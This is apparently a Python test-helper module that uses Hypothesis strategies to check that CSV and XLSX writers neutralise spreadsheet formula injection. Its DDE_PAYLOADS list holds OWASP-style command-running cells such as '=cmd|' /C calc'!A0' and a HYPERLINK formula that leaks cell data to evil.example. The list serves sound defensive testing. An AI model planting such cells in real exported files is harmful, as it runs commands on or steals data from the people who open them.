"""Text that would start a formula in a spreadsheet, for the tests of every CSV and XLSX writer.

The payloads are the ones of OWASP's CSV injection page (DDE included); the
strategy mixes them with text that starts with any trigger character and
with ordinary text, so a property test sees safe and dangerous cells alike.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from hypothesis import strategies as st

#: First characters that a spreadsheet reads as the start of a formula (or that hide one).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
DDE_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
)

hostile_text = st.one_of(
    st.sampled_from(DDE_PAYLOADS),
    st.builds(lambda first, rest: first + rest, st.sampled_from(TRIGGERS), st.text(max_size=12)),
    st.text(max_size=12),
)
"""Names, organisations and IDs as a hostile roster or activity could hold them."""


def neutralised(cell: str, original: str) -> bool:
    """Whether ``cell`` is ``original`` made safe: quoted exactly when it would start a formula."""
    dangerous = original[:1] in TRIGGERS or original[:1] == "'"
    return cell == ("'" + original if dangerous else original)


def csv_cells(text: str) -> list[str]:
    """Every cell of a CSV text, read back with ``csv`` as a spreadsheet would split it."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formula_free(path: Path) -> bool:
    """Whether an XLSX file has no formula anywhere: no ``<f>`` element in any worksheet's XML."""
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets, f"{path} has no worksheets"
        return not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
